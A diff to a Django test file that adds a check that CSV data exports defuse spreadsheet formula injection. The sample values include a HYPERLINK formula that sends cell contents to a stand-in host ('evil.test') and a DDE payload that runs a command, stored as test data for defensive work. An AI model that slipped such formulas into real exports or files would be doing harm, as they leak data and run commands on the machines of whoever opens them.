@@ -1,6 +1,8 @@
 """Production: check --deploy, security headers scored like the HTTP Observatory, cookies,
 static files through the production storage, HTTP caching, page weight and open data."""
 
+import csv
+import io
 import json
 import os
 import re
@@ -264,3 +266,35 @@ def test_about_links_the_open_data(client):
     html = client.get("/about/").content.decode()
     for name in ("programs", "glossary", "faq"):
         assert f'href="/data/{name}.json"' in html and f'href="/data/{name}.csv"' in html
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.test/?"&A1,"Click")',
+    "summary": "+1+cmd|' /C calc'!A0",
+    "body": "- item one\n- item two",
+    "acronym": "@SUM(1+1)",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_json_is_exact(client):
+    program = Program.objects.get(slug="rapid-repat")
+    for field, value in FORMULAS.items():
+        setattr(program, field, value)
+    program.save()
+    other = Program.objects.get(slug="deport-center")
+    other.summary, other.body = "\tTabbed", "\rReturned"
+    other.save()
+    rows = {
+        r["slug"]: r
+        for r in csv.DictReader(io.StringIO(client.get("/data/programs.csv").content.decode()))
+    }
+    for field, value in FORMULAS.items():
+        assert rows["rapid-repat"][field] == "'" + value, field
+    assert rows["deport-center"]["summary"] == "'\tTabbed"
+    assert rows["deport-center"]["body"] == "'\rReturned"
+    # Every cell: nothing starts like a formula.
+    assert not [v for row in rows.values() for v in row.values() if v[:1] in "=+-@\t\r" and v]
+    data = {r["slug"]: r for r in json.loads(client.get("/data/programs.json").content)}
+    for field, value in FORMULAS.items():
+        assert data["rapid-repat"][field] == value, field
+    assert data["deport-center"]["summary"] == "\tTabbed"
